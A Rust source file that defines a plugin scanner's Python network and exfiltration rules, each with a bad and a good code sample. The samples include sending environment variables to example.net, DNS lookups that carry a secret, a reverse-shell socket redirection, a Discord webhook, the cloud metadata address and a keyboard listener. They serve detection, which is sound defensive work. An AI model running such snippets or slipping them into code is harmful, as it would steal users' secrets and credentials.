//! Reaching the network.

use crate::scanner::{Capability, Confidence, Example, Group, Rule, RuleLanguage, Severity};

pub(in crate::scanner) static SOCKET_OPENED: Rule = Rule {
    id: "PY501",
    name: "socket-opened",
    language: RuleLanguage::Python,
    group: Group::Network,
    severity: Severity::Medium,
    confidence: Confidence::Medium,
    cwe: 200,
    aliases: &[],
    capability: Some(Capability::Network),
    title: "Opens a connection by itself",
    explanation: "A socket reaches any service and any address.",
    remedy: "Ask for data through the host.",
    example: Example {
        bad: "import socket\nconnection = socket.socket()\nconnection.connect((\"example.net\", 4444))\n",
        good: "import socket\nname = socket.AF_INET\n",
    },
};

pub(in crate::scanner) static URL_OPENED: Rule = Rule {
    id: "PY502",
    name: "url-opened",
    language: RuleLanguage::Python,
    group: Group::Network,
    severity: Severity::Medium,
    confidence: Confidence::Medium,
    cwe: 22,
    aliases: &["B310"],
    capability: Some(Capability::Network),
    title: "Opens an address that is not constant, or not `https`",
    explanation: "Such an address can be `file:`, and what comes back can be changed on the way.",
    remedy: "Use a constant `https` address.",
    example: Example {
        bad: "import urllib.request\npage = urllib.request.urlopen(address)\n",
        good: "import urllib.parse\nparts = urllib.parse.urlparse(address)\n",
    },
};

pub(in crate::scanner) static HTTP_REQUEST: Rule = Rule {
    id: "PY503",
    name: "http-request",
    language: RuleLanguage::Python,
    group: Group::Network,
    severity: Severity::Low,
    confidence: Confidence::Medium,
    cwe: 200,
    aliases: &[],
    capability: Some(Capability::Network),
    title: "Sends a request over the network",
    explanation: "What it sends leaves the machine, and what comes back is somebody else's.",
    remedy: "Declare the network permission with the host's name.",
    example: Example {
        bad: "import requests\npage = requests.get(\"https://example.org\", timeout=5)\n",
        good: "page = cache.get(\"https://example.org\")\n",
    },
};

pub(in crate::scanner) static REQUEST_WITHOUT_TIMEOUT: Rule = Rule {
    id: "PY504",
    name: "request-without-timeout",
    language: RuleLanguage::Python,
    group: Group::Network,
    severity: Severity::Low,
    confidence: Confidence::Medium,
    cwe: 400,
    aliases: &["B113"],
    capability: Some(Capability::Network),
    title: "Waits for an answer without limit",
    explanation: "A server that does not answer stops the plugin for good.",
    remedy: "Pass `timeout=`.",
    example: Example {
        bad: "import requests\npage = requests.get(\"https://example.org\")\n",
        good: "import requests\npage = requests.get(\"https://example.org\", timeout=5)\n",
    },
};

pub(in crate::scanner) static TELNET: Rule = Rule {
    id: "PY505",
    name: "telnet",
    language: RuleLanguage::Python,
    group: Group::Network,
    severity: Severity::High,
    confidence: Confidence::High,
    cwe: 319,
    aliases: &["B312", "B401"],
    capability: Some(Capability::Network),
    title: "Uses Telnet",
    explanation: "Passwords and data go in the clear.",
    remedy: "Use SSH.",
    example: Example { bad: "import telnetlib\n", good: "import json\n" },
};

pub(in crate::scanner) static FTP: Rule = Rule {
    id: "PY506",
    name: "ftp",
    language: RuleLanguage::Python,
    group: Group::Network,
    severity: Severity::Medium,
    confidence: Confidence::High,
    cwe: 319,
    aliases: &["B321", "B402"],
    capability: Some(Capability::Network),
    title: "Uses FTP",
    explanation: "Passwords and data go in the clear.",
    remedy: "Use SFTP or HTTPS.",
    example: Example { bad: "import ftplib\n", good: "import json\n" },
};

pub(in crate::scanner) static MAIL_SENT: Rule = Rule {
    id: "PY507",
    name: "mail-sent",
    language: RuleLanguage::Python,
    group: Group::Network,
    severity: Severity::Medium,
    confidence: Confidence::Medium,
    cwe: 200,
    aliases: &[],
    capability: Some(Capability::Network),
    title: "Sends mail",
    explanation: "A plugin has no reason to write letters.",
    remedy: "Leave it to the host.",
    example: Example {
        bad: "import smtplib\nserver = smtplib.SMTP(\"mail.example.net\")\n",
        good: "from email.message import EmailMessage\nletter = EmailMessage()\n",
    },
};

pub(in crate::scanner) static PROTOCOL_CLIENT: Rule = Rule {
    id: "PY508",
    name: "protocol-client",
    language: RuleLanguage::Python,
    group: Group::Network,
    severity: Severity::Medium,
    confidence: Confidence::Medium,
    cwe: 200,
    aliases: &[],
    capability: Some(Capability::Network),
    title: "Talks to another machine",
    explanation: "Remote shells, message queues and databases elsewhere see what the plugin sees.",
    remedy: "Leave it to the host.",
    example: Example {
        bad: "import paramiko\nclient = paramiko.SSHClient()\n",
        good: "import sqlite3\nclient = sqlite3.connect(\":memory:\")\n",
    },
};

pub(in crate::scanner) static IPMI_IMPORT: Rule = Rule {
    id: "PY509",
    name: "ipmi-import",
    language: RuleLanguage::Python,
    group: Group::Network,
    severity: Severity::Medium,
    confidence: Confidence::High,
    cwe: 319,
    aliases: &["B415"],
    capability: Some(Capability::Network),
    title: "Imports a module that speaks IPMI",
    explanation: "The protocol is not encrypted.",
    remedy: "Use an encrypted protocol.",
    example: Example { bad: "import pyghmi\n", good: "import json\n" },
};

pub(in crate::scanner) static WEAK_SNMP: Rule = Rule {
    id: "PY510",
    name: "weak-snmp",
    language: RuleLanguage::Python,
    group: Group::Network,
    severity: Severity::Medium,
    confidence: Confidence::High,
    cwe: 319,
    aliases: &["B508", "B509"],
    capability: Some(Capability::Network),
    title: "Speaks SNMP without encryption",
    explanation: "Passwords and data go in the clear.",
    remedy: "Use SNMPv3 with both keys.",
    example: Example {
        bad: "from pysnmp.hlapi import UsmUserData\nuser = UsmUserData(\"name\")\n",
        good: "from pysnmp.hlapi import UsmUserData\nuser = UsmUserData(\"name\", \"one\", \"two\")\n",
    },
};

pub(in crate::scanner) static HOST_KEY_NOT_CHECKED: Rule = Rule {
    id: "PY511",
    name: "host-key-not-checked",
    language: RuleLanguage::Python,
    group: Group::Network,
    severity: Severity::Medium,
    confidence: Confidence::High,
    cwe: 295,
    aliases: &["B507"],
    capability: Some(Capability::Network),
    title: "Accepts any SSH host key",
    explanation: "Anybody on the way can be the other end.",
    remedy: "Load the known host keys and reject others.",
    example: Example {
        bad: "import paramiko\nclient = paramiko.SSHClient()\nclient.set_missing_host_key_policy(paramiko.AutoAddPolicy())\n",
        good: "import paramiko\npolicy = paramiko.RejectPolicy\n",
    },
};

pub(in crate::scanner) static DATA_SENT_OUT: Rule = Rule {
    id: "PY521",
    name: "data-sent-out",
    language: RuleLanguage::Python,
    group: Group::Exfiltration,
    severity: Severity::High,
    confidence: Confidence::Medium,
    cwe: 200,
    aliases: &[],
    capability: Some(Capability::Network),
    title: "Sends the environment, files or the machine's identity over the network",
    explanation: "That is what stealing looks like.",
    remedy: "Send nothing that the request does not need.",
    example: Example {
        bad: "import os, requests\nrequests.post(\"https://example.net\", json=dict(os.environ), timeout=5)\n",
        good: "import os\nsettings = dict(os.environ)\n",
    },
};

pub(in crate::scanner) static NAME_LOOKUP_WITH_DATA: Rule = Rule {
    id: "PY522",
    name: "name-lookup-with-data",
    language: RuleLanguage::Python,
    group: Group::Exfiltration,
    severity: Severity::High,
    confidence: Confidence::Medium,
    cwe: 200,
    aliases: &[],
    capability: Some(Capability::Network),
    title: "Looks up a host name that is put together from data",
    explanation: "Name servers see every label; that is a way out past a proxy.",
    remedy: "Remove it.",
    example: Example {
        bad: "import socket\nsocket.gethostbyname(secret + \".example.net\")\n",
        good: "import socket\nname = socket.gethostname()\n",
    },
};

pub(in crate::scanner) static REVERSE_SHELL: Rule = Rule {
    id: "PY523",
    name: "reverse-shell",
    language: RuleLanguage::Python,
    group: Group::Exfiltration,
    severity: Severity::Critical,
    confidence: Confidence::High,
    cwe: 506,
    aliases: &[],
    capability: Some(Capability::Process),
    title: "Ties a shell or the standard streams to a connection",
    explanation: "Somebody elsewhere then types the commands.",
    remedy: "Remove it.",
    example: Example {
        bad: "import os, socket\nlink = socket.socket()\nos.dup2(link.fileno(), 0)\n",
        good: "import os\nos.dup2(log.fileno(), 1)\n",
    },
};

pub(in crate::scanner) static DROP_ADDRESS: Rule = Rule {
    id: "PY524",
    name: "drop-address",
    language: RuleLanguage::Python,
    group: Group::Exfiltration,
    severity: Severity::High,
    confidence: Confidence::Medium,
    cwe: 506,
    aliases: &[],
    capability: Some(Capability::Network),
    title: "Names an address that hostile code uses",
    explanation: "Chat hooks, request bins, tunnels and onion sites take stolen data; mining pools take the machine.",
    remedy: "Remove it.",
    example: Example {
        bad: "hook = \"https://discord.com/api/webhooks/1/abc\"\n",
        good: "page = \"https://numpy.org/doc\"\n",
    },
};

pub(in crate::scanner) static METADATA_ADDRESS: Rule = Rule {
    id: "PY525",
    name: "metadata-address",
    language: RuleLanguage::Python,
    group: Group::Exfiltration,
    severity: Severity::High,
    confidence: Confidence::High,
    cwe: 918,
    aliases: &[],
    capability: Some(Capability::Network),
    title: "Names the address where a cloud machine hands out its keys",
    explanation: "Whoever asks there gets the machine's credentials.",
    remedy: "Remove it.",
    example: Example {
        bad: "address = \"http://169.254.169.254/latest/meta-data/\"\n",
        good: "address = \"http://192.0.2.1/\"\n",
    },
};

pub(in crate::scanner) static USER_WATCHED: Rule = Rule {
    id: "PY526",
    name: "user-watched",
    language: RuleLanguage::Python,
    group: Group::Exfiltration,
    severity: Severity::High,
    confidence: Confidence::Medium,
    cwe: 359,
    aliases: &[],
    capability: None,
    title: "Watches the keyboard, the screen or the clipboard",
    explanation: "A plugin has no reason to.",
    remedy: "Remove it.",
    example: Example {
        bad: "from pynput import keyboard\nlistener = keyboard.Listener(on_press=note)\n",
        good: "keyboard = {\"a\": 1}\n",
    },
};
